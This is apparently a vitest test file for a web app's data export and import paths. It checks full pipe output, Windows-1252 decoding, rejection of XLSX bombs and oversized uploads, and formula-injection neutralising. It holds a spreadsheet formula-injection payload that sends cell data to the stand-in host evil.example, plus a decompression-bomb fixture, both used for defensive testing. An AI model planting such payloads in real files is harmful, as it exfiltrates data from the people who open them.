/**
 * Issue 15 (5, 6, 9): nothing lost or mangled on the way in or out.
 * - `data:export` through a real pipe gives every byte (it was cut at 65,536).
 * - A Windows-1252 CSV keeps its accents, and the preview says how it was read.
 * - An XLSX bomb and an oversized chunked upload are refused with a clear message.
 * - A name a spreadsheet would run as a formula comes out inert in CSV and XLSX downloads, from
 *   the API and the CLI; a negative number stays a number.
 */
import { spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { currentRequest, RedirectError } from "../helpers/admin";

vi.mock("next/headers", () => ({
  headers: async () => currentRequest.headers,
  cookies: async () => ({ get: () => undefined, getAll: () => [], has: () => false, set: () => undefined, delete: () => undefined }),
}));
vi.mock("next/cache", () => ({ revalidatePath: () => undefined, revalidateTag: () => undefined }));
vi.mock("next/navigation", () => ({
  redirect: (url: string) => {
    throw new RedirectError(url);
  },
}));

import type { ImportProgress, ImportState } from "@/app/admin/impor/import-run";
import { POST as upload } from "@/app/admin/impor/unggah/route";
import { GET as exportGet } from "@/app/api/v1/export/route";
import { GET as summaryGet } from "@/app/api/v1/export/ringkasan/route";
import { seedDatabase } from "@/lib/ledger/seed";
import { createUserWithPassword } from "@/lib/ledger/users";
import { actAs, dbFingerprint, sessionCookie } from "../helpers/admin";
import { HEADER_COLUMNS } from "../helpers/import-columns";
import { createTempDatabase, type TempDatabase } from "../helpers/temp-db";
import { buildXlsx } from "../helpers/xlsx-bomb";

const ROOT = join(__dirname, "..", "..");
const TSX = join(ROOT, "node_modules", ".bin", "tsx");
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"Klik")';
const PASSWORD = "a long test password 42";

let tdb: TempDatabase;
let adminCookie: string;
let dir: string;

beforeAll(async () => {
  tdb = createTempDatabase("data-loss");
  process.env.DATABASE_URL = tdb.url;
  await seedDatabase(tdb.prisma);
  const made = await createUserWithPassword({ email: "admin@example.org", role: "ADMIN", password: PASSWORD }, tdb.prisma);
  if (!made.ok) throw new Error(made.message);
  adminCookie = await sessionCookie("admin@example.org", PASSWORD);
  // A published result of an entity whose name a spreadsheet would run.
  const kalsel = await tdb.prisma.province.findUniqueOrThrow({ where: { code: "63" } });
  const entity = await tdb.prisma.entity.create({ data: { type: "POLRES", name: FORMULA, slug: "polres-formula", provinceId: kalsel.id } });
  await tdb.prisma.result.create({
    data: { entityId: entity.id, year: 2024, provinceId: kalsel.id, score: 5000, status: "PUBLISHED", publishedAt: new Date(), sourceUrl: "https://sumber.example/f", createdBy: "test", updatedBy: "test" },
  });
  dir = mkdtempSync(join(tmpdir(), "rapor-data-loss-"));
});

afterAll(async () => {
  rmSync(dir, { recursive: true, force: true });
  await tdb.dispose();
});

/**
 * Run `data:export` with its stdout into a real pipe, as `data:export | wc -c` does (Node's own
 * child-process "pipes" are socket pairs with larger buffers, which hid the bug): the count of
 * bytes that came through, and the bytes themselves through a slow reader.
 */
function exportThroughPipe(args: string[], out: string): { count: number; status: number | null } {
  const command = `"${TSX}" scripts/export.ts ${args.join(" ")} | wc -c; "${TSX}" scripts/export.ts ${args.join(" ")} | (sleep 1; cat > "${out}")`;
  const run = spawnSync("sh", ["-c", command], { cwd: ROOT, env: { ...process.env, DATABASE_URL: tdb.url }, encoding: "utf8" });
  return { count: Number(run.stdout.trim()), status: run.status };
}

describe("the CLI export through a pipe", () => {
  it("gives every byte, the same as written to a file", async () => {
    const file = join(dir, "export.csv");
    const written = spawnSync(TSX, ["scripts/export.ts", "--format", "csv", "--out", file], { cwd: ROOT, env: { ...process.env, DATABASE_URL: tdb.url }, encoding: "utf8" });
    expect(written.status, written.stderr).toBe(0);
    const expected = readFileSync(file);
    expect(expected.length).toBeGreaterThan(64 * 1024 * 1.5);
    for (let run = 0; run < 3; run++) {
      const through = join(dir, `piped-${run}.csv`);
      const piped = exportThroughPipe(["--format", "csv"], through);
      expect(piped.status).toBe(0);
      expect(piped.count).toBe(expected.length);
      expect(readFileSync(through).equals(expected)).toBe(true);
    }
  }, 120_000);

  it("writes the formula-like name inert", () => {
    const csv = readFileSync(join(dir, "export.csv"), "utf8");
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A2,""Klik"")"`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });
});

describe("downloads from the API", () => {
  it("neutralise the formula in CSV and XLSX; a negative change stays a number", async () => {
    const csv = await (await exportGet(new Request("http://rapor.test/api/v1/export?format=csv&tahun=2024&provinsi=kalimantan-selatan"))).text();
    expect(csv).toContain(`'=HYPERLINK`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
    const xlsx = Buffer.from(await (await exportGet(new Request("http://rapor.test/api/v1/export?format=xlsx&tahun=2024&provinsi=kalimantan-selatan"))).arrayBuffer());
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx as unknown as ArrayBuffer);
    const names: string[] = [];
    workbook.worksheets[0]!.eachRow((row) => names.push(String(row.getCell(3).value)));
    expect(names).toContain(`'${FORMULA}`);
    expect(names.some((n) => n.startsWith("="))).toBe(false);
    const scores: unknown[] = [];
    workbook.worksheets[0]!.eachRow((row, i) => i > 1 && scores.push(row.getCell(5).value));
    expect(scores.every((v) => v === null || typeof v === "number")).toBe(true);
    // The totals: averages (and changes) are number cells, never quoted text.
    const summary = Buffer.from(await (await summaryGet(new Request("http://rapor.test/api/v1/export/ringkasan?tabel=rata-rata-provinsi&format=xlsx&provinsi=kalimantan-selatan"))).arrayBuffer());
    const totals = new ExcelJS.Workbook();
    await totals.xlsx.load(summary as unknown as ArrayBuffer);
    const texts: string[] = [];
    totals.worksheets[0]!.eachRow((row) => row.eachCell((cell) => typeof cell.value === "string" && texts.push(cell.value)));
    expect(texts.filter((t) => /^'?-?\d+\.\d\d$/.test(t))).toEqual([]);
  }, 60_000);
});

function form(file: File, fields: Record<string, string> = {}): FormData {
  const f = new FormData();
  f.set("file", file);
  for (const [k, v] of Object.entries(fields)) f.set(k, v);
  return f;
}

async function uploadAsAdmin(body: BodyInit, headers: Record<string, string> = {}, init: RequestInit = {}): Promise<Response> {
  const all = { host: "rapor.test", origin: "http://rapor.test", cookie: adminCookie, ...headers };
  actAs(adminCookie);
  for (const [k, v] of Object.entries(all)) currentRequest.headers.set(k, v);
  return upload(new Request("http://rapor.test/admin/impor/unggah", { method: "POST", headers: all, body, ...init }));
}

async function finalState(response: Response): Promise<ImportState> {
  expect(response.status).toBe(200);
  const events = (await response.text()).trim().split("\n").map((l) => JSON.parse(l) as ImportProgress);
  const last = events.at(-1)!;
  if (last.type !== "done") throw new Error("no done event");
  return last.state;
}

describe("the import upload", () => {
  it("reads a Windows-1252 CSV with its accents and says so in the preview", async () => {
    const text = `${HEADER_COLUMNS.join(",")}\n2025,POLRES,Polrès Façade,KALIMANTAN SELATAN,91.66,,,,,,https://x.test/a,\n`;
    const state = await finalState(await uploadAsAdmin(form(new File([Buffer.from(text, "latin1")], "latin1.csv", { type: "text/csv" }), { intent: "preview", createEntities: "on" })));
    expect(state.stage).toBe("preview");
    expect(state.encoding).toBe("Windows-1252");
    expect(state.newEntities).toEqual(["Polres Polrès Façade"]);
    expect(JSON.stringify(state)).not.toContain("\uFFFD");
  });

  it("refuses an XLSX bomb with a clear message, changing nothing", async () => {
    const before = await dbFingerprint(tdb.prisma);
    const bomb = await buildXlsx({ rows: 190_000 });
    const state = await finalState(await uploadAsAdmin(form(new File([new Uint8Array(bomb)], "bom.xlsx"), { intent: "preview" })));
    expect(state).toMatchObject({ stage: "failed", fileName: "bom.xlsx" });
    expect(state.message).toMatch(/^Isi berkas XLSX terlalu besar: \d+ MB XML setelah diekstrak \(paling banyak 64 MB\)\. Bagi menjadi beberapa berkas, atau simpan sebagai CSV\.$/);
    expect(await dbFingerprint(tdb.prisma)).toBe(before);
  }, 60_000);

  it("cuts a chunked upload off at the limit, without Content-Length, as it arrives", async () => {
    let sent = 0;
    const boundary = "----rapor-test";
    const chunk = new Uint8Array(1024 * 1024).fill(0x61);
    // 40 MB offered, one megabyte at a time; the reader must stop after about 20.
    const body = new ReadableStream<Uint8Array>({
      start(controller) {
        controller.enqueue(new TextEncoder().encode(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.csv"\r\nContent-Type: text/csv\r\n\r\n`));
      },
      pull(controller) {
        if (sent >= 40) return controller.close();
        sent++;
        controller.enqueue(chunk);
      },
    });
    const response = await uploadAsAdmin(body, { "content-type": `multipart/form-data; boundary=${boundary}` }, { duplex: "half" } as RequestInit);
    expect(response.status).toBe(413);
    expect(await response.json()).toEqual({ error: "too_large", message: "Berkas lebih dari 20 MB; bagi menjadi beberapa berkas." });
    expect(sent).toBeLessThanOrEqual(23);
  });
});
